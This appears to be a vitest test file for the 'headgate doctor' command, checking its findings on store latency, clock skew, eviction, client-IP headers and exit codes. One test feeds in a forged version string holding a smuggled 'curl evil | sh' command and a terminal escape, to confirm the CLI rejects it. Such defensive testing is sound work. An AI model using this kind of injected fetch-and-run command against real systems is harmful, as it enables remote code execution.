// What `headgate doctor` says about what it has seen. test/gateway/doctor.test.ts asks real gateways.

import { describe, expect, it } from "vitest";
import { type Finding, findingsOf, type Seen } from "../../src/cli/doctor/findings.ts";
import type { ClientFacts, DoctorFacts, PlaceFacts } from "../../src/operate/doctor.ts";
import { startOrigin } from "../support/gateway/origin-server.ts";
import { folderWith, headgate } from "./run.ts";

const SCRIPT = "0123456789abcdef0123456789abcdef01234567";
const HEALTH = { status: "ok", version: "1.2.3", store: "redis", notes: [] };
const PLACE: PlaceFacts = { name: "redis", latencyMs: 12, aheadMs: 3, eviction: "noeviction" };
const CLIENT: ClientFacts = { clientIp: null, address: "203.0.113.7", forwardedFor: "203.0.113.7" };
const FACTS: DoctorFacts = {
  ...{
    version: "1.2.3",
    script: SCRIPT,
    store: "redis",
    timeoutMs: 250,
    hasKeySecret: true,
    policies: [{ name: "api", key: ["header:x-user+ip/64"] }],
  },
  ...{ places: [PLACE], omitted: 0, client: CLIENT, atMs: 0 },
};
const SEEN: Seen = {
  ...{ version: "1.2.3", script: SCRIPT, isHere: false, health: HEALTH, facts: FACTS },
  clock: { aheadMs: 20, accuracyMs: 15 },
};

function not(level: Finding["level"], seen: Seen) {
  return findingsOf(seen).filter((finding) => finding.level !== level);
}

/** What is not well, as `level about: …`, each with what to do. */
function wrong(seen: Partial<Seen>, facts: Partial<DoctorFacts> = {}, place: Partial<PlaceFacts> = {}) {
  const places = facts.places ?? [{ ...PLACE, ...place }];
  const found = not("ok", { ...SEEN, facts: { ...FACTS, ...facts, places }, ...seen });
  return found.map(({ level, about, says, todo }) => `${level} ${about}: ${says} ${todo ?? ""}`.trim());
}

it("finds nothing in a gateway that has everything, and says what was looked at", () => {
  expect(wrong({})).toEqual([]);
  const looked = findingsOf(SEEN).map(({ about }) => about);
  expect(looked).toEqual(["versions", "store", "clock", "eviction", "key secret", "client", "clock"]);
});

describe("finds in the store", () => {
  it.each<[string, Partial<PlaceFacts>, RegExp]>([
    [
      "one that is away",
      { latencyMs: undefined!, error: "TIMEOUT" },
      /^problem store: redis has no answer \(TIMEOUT\)/,
    ],
    ["a wrong token", { latencyMs: undefined!, error: "UNAUTHORIZED" }, /Set the secret with its token again\.$/],
    ["one that is far", { latencyMs: 126 }, /^problem store: redis answers the gateway in 126 ms, .* 250 ms.*Move it/],
    ["a clock ahead", { aheadMs: 2_007 }, /^problem clock: The clock of redis is 2\.0 s ahead of the gateway's\..*NTP/],
    ["a clock behind", { aheadMs: -61_000 }, /61\.0 s behind the gateway's/],
    ["eviction", { eviction: "allkeys-lru" }, /^problem eviction: .*\(allkeys-lru\).*maxmemory-policy to noeviction/],
    ["no INFO", { eviction: undefined! }, /^note eviction: .* could not be read.*INFO\. See in its console/],
    ["lost counts", { warning: "the store has lost counts" }, /^problem eviction: redis: the store has lost counts\.$/],
  ])("%s", (_title, place, expected) => {
    expect(wrong({}, {}, place)).toEqual([expect.stringMatching(expected)]);
  });

  it("no fault where the values are at their bounds", () => {
    expect(wrong({}, {}, { latencyMs: 125, aheadMs: 2_062 })).toEqual([]);
  });

  it("counts in memory, and places that were not asked", () => {
    expect(wrong({}, { store: "memory", places: [PLACE], hasKeySecret: false })).toEqual([
      expect.stringMatching(/^problem store: Counts are in memory.*Bind the Durable Object/),
    ]);
    expect(wrong({}, { omitted: 3 })).toEqual(["note store: 3 more places were not asked."]);
    expect(wrong({ health: undefined! }, { places: [], client: null })).toEqual([
      expect.stringMatching(/^note store: The store \(redis\) can't be asked from here\. .*headgate doctor <url>/),
    ]);
  });
});

describe("finds in whose address is counted", () => {
  const at = (client: Partial<ClientFacts>, seen: Partial<Seen> = {}) => {
    return wrong(seen, { client: { ...CLIENT, ...client } });
  };
  const xff = (hops: number) => ({ header: "x-forwarded-for", hops });

  it.each<[string, Partial<ClientFacts>, RegExp]>([
    [
      "none",
      { address: null, forwardedFor: null },
      /^problem client: .* no client address in CF-Connecting-IP.*Set CLIENT_IP/,
    ],
    [
      "too few entries",
      { clientIp: xff(2), address: null },
      /in x-forwarded-for: .*had X-Forwarded-For: 203\.0\.113\.7\.$/,
    ],
    [
      "a private one",
      { address: "10.0.0.3", forwardedFor: null },
      /for 10\.0\.0\.3, a private address: .*no X-Forwarded-For\.$/,
    ],
    ["a proxy before Cloudflare", { forwardedFor: "192.0.2.1, 203.0.113.7" }, /more proxies .* hops = 2 \}/],
    ["a hop too few", { clientIp: xff(1), forwardedFor: "192.0.2.1, 203.0.113.7" }, /counts for 203\.0\.113\.7/],
  ])("%s", (_title, client, expected) => {
    expect(at(client)).toEqual([expect.stringMatching(expected)]);
  });

  it("nothing where it is right, or the gateway on this machine; a note where no policy counts by address", () => {
    const two = "192.0.2.1, 10.0.0.1";
    expect(at({ clientIp: xff(2), address: "192.0.2.1", forwardedFor: two })).toEqual([]);
    const trust = { header: "x-forwarded-for", trust: ["private"] };
    expect(at({ clientIp: trust, address: "192.0.2.1", forwardedFor: two })).toEqual([]);
    expect(at({ address: "127.0.0.1", forwardedFor: null }, { isHere: true })).toEqual([]);
    expect(wrong({}, { policies: [{ name: "api", key: ["global"] }], client: { ...CLIENT, address: null } })).toEqual([
      expect.stringMatching(/^note client: /),
    ]);
    // A client without the header counts by its address.
    expect(
      wrong({}, { policies: [{ name: "api", key: ["header:x-user"] }], client: { ...CLIENT, address: null } }),
    ).toEqual([expect.stringMatching(/^problem client: /)]);
    expect(at({ address: null, forwardedFor: null }, { isHere: true })).toEqual([
      expect.stringMatching(/^note client: /),
    ]);
    // A header of its own, beside a list that the same proxies write.
    expect(at({ clientIp: { header: "x-client" }, address: "192.0.2.1", forwardedFor: two })).toEqual([]);
  });
});

it("finds other versions, an absent key secret, and a clock of this machine that is wrong", () => {
  expect(wrong({ version: "1.3.0" })).toEqual([expect.stringMatching(/^note versions: .*npx headgate@1\.2\.3\.$/)]);
  expect(wrong({ script: SCRIPT.replace("0", "f") })).toEqual([expect.stringMatching(/^problem versions: .*script/)]);
  const noSecret = { hasKeySecret: false };
  expect(wrong({}, noSecret)).toEqual([expect.stringMatching(/^problem key secret: .*secret put KEY_SECRET/)]);
  expect(wrong({ isHere: true }, noSecret)).toEqual([expect.stringMatching(/^note key secret: /)]);
  expect(wrong({}, { ...noSecret, store: "durable-object" })).toEqual([expect.stringMatching(/^note key secret: /)]);
  expect(wrong({ clock: { aheadMs: -5_000, accuracyMs: 40 } })).toEqual([
    "note clock: The gateway's clock is 5.0 s behind this machine's. Set the one that is wrong by NTP.",
  ]);
});

describe("without the admin API", () => {
  const outside = (health: object, more: Partial<Seen> = {}) => {
    const { facts: _, clock: __, ...seen } = SEEN;
    return not("ok", { ...seen, health: { ...HEALTH, ...health }, ...more }).map(({ says }) => says);
  };
  const NO_TOKEN = expect.stringMatching(/^Without a token /);

  it("reads what everybody can read", () => {
    expect(outside({ redis: { reachable: true, latencyMs: 3, breaker: "closed" } })).toEqual([NO_TOKEN]);
    const evicts = { reachable: true, latencyMs: 3, warning: "Redis forgets counts" };
    const says = "redis: Redis forgets counts.";
    expect(outside({ redis: evicts, notes: ["a note"] })).toEqual(["a note.", says, NO_TOKEN]);
    const open = { reachable: false, error: "TIMEOUT", breaker: "open" };
    expect(outside({ redis: open })).toEqual([expect.stringMatching(/^redis has no answer \(TIMEOUT\)/), NO_TOKEN]);
    const places = [
      { name: "eu", reachable: false, error: "NETWORK" },
      { name: "us", reachable: true, latencyMs: 3 },
    ];
    expect(outside({ redis: { ...open, places } })).toEqual([
      expect.stringMatching(/^eu has no answer \(NETWORK\)/),
      NO_TOKEN,
    ]);
    expect(outside({ store: "memory" })).toEqual([expect.stringMatching(/^Counts are in memory/), NO_TOKEN]);
    expect(outside({}, { refused: "the gateway answered 401" })).toEqual([expect.stringMatching(/answered 401$/)]);
  });

  it("names the mistakes of a configuration", () => {
    const mistakes = [{ path: "POLICIES[0].key[0]", code: "ERR_POLICY_KEY" }];
    // Nothing else can be asked.
    expect(outside({ status: "misconfigured", store: undefined, mistakes })).toEqual([
      "POLICIES[0].key[0] has a mistake (ERR_POLICY_KEY): the gateway serves nothing.",
    ]);
  });
});

it("ends with 1 where there is no gateway, with 0 where there is only a configuration, and with 2 where the command line is wrong", async () => {
  const folder = folderWith();
  const nobody = await headgate(folder, ["doctor", "http://127.0.0.1:3"]);
  expect(nobody).toMatchObject({
    status: 1,
    stdout: "",
    stderr: "headgate: no answer from 127.0.0.1:3: ECONNREFUSED\n",
  });
  expect(await headgate(folder, ["doctor"])).toMatchObject({ status: 2, stdout: "" });
  // What `init` writes counts in an object, which only workerd has.
  await headgate(folder, ["init", "gate", "-y"]);
  const configured = await headgate(folder, ["doctor", "gate/wrangler.toml"]);
  expect(configured).toMatchObject({ status: 0, stderr: "" });
  expect(configured.stdout).toContain("note     store: The store (durable-object) can't be asked from here.");
  // A secret of the deployed Worker is in no file.
  expect(configured.stdout).not.toContain("KEY_SECRET");
  const expected = "expected an http(s) URL without credentials, query or fragment";
  for (const [from, args, env] of [
    ["target", ["https://a:b@gate.example"], {}],
    ["HEADGATE_URL", [], { HEADGATE_URL: "gate.example" }],
  ] as const) {
    const wrongUrl = await headgate(folder, ["doctor", ...args], env);
    expect(wrongUrl).toMatchObject({ status: 2, stdout: "", stderr: `headgate: ${from}: ${expected}\n` });
  }
});

describe("asks another program", () => {
  const answering = (health: object, doctor: object) => async () => {
    const { url } = await startOrigin((request, response) => {
      response.end(JSON.stringify(request.url!.endsWith("/health") ? health : doctor));
    });
    return url;
  };
  const withoutEnd = async () => {
    const { url } = await startOrigin((_request, response) => {
      const go = () => {
        while (response.write(" ".repeat(100_000)));
      };
      response.on("drain", go);
      go();
    });
    return url;
  };
  const forged = { ...HEALTH, version: "1.0.0; curl evil | sh \u001b[2J" };

  it.each<[string, () => Promise<string>, RegExp, RegExp]>([
    ["without a version", answering({ status: "ok" }, {}), /^$/, /without a version\. Is it a gateway\?/],
    ["whose version is a command", answering(forged, {}), /^$/, /without a version/],
    ["that never ends", withoutEnd, /^$/, /without a version/],
    ["with other facts", answering(HEALTH, { places: [null] }), /^problem {2}access: .*another form\n/m, /^$/],
  ])("%s", async (_title, start, stdout, stderr) => {
    const ran = await headgate("/", ["doctor", await start()], { HEADGATE_TOKEN: "token" });
    expect(ran.status).toBe(1);
    expect(ran.stdout).toMatch(stdout);
    expect(ran.stderr).toMatch(stderr);
  });
});
